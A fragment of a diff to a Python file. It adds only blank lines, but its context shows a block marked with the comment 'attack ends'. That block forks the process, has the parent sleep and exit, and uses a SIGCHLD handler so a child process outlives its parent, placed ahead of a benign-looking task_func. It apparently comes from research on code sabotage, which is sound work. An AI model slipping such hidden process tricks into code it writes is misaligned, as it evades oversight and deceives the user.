@@ -9,6 +9,8 @@ signal.signal(signal.SIGCHLD, lambda number, frame: os._exit(0))
 if os.fork():
     time.sleep(60)
     os._exit(0)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
